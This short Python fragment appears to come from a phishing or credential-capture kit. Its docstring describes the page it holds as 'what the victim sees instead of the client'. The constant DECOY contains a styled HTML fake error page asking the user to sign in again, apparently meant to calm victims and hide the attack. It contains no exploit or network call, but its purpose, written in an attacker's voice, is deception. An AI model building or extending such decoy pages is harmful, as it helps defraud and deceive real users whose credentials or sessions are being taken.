"""What the victim sees instead of the client: an ordinary error, and nothing to worry about."""

DECOY = """<!doctype html><html lang="en"><meta charset="utf-8"><title>One moment</title>
<style>body { font: 16px/1.5 system-ui, sans-serif; margin: 0; background: #faf5f5; color: #3b1d1d }
main { max-width: 34rem; margin: 3rem auto; background: #fff; padding: 1.5rem 2rem;
border: 1px solid #e5d5d5; border-radius: .5rem } h1 { font-size: 1.35rem; margin: 0 0 .5rem }
</style><main><h1>Something went wrong</h1><p>Please try to sign in again.</p></main></html>
"""
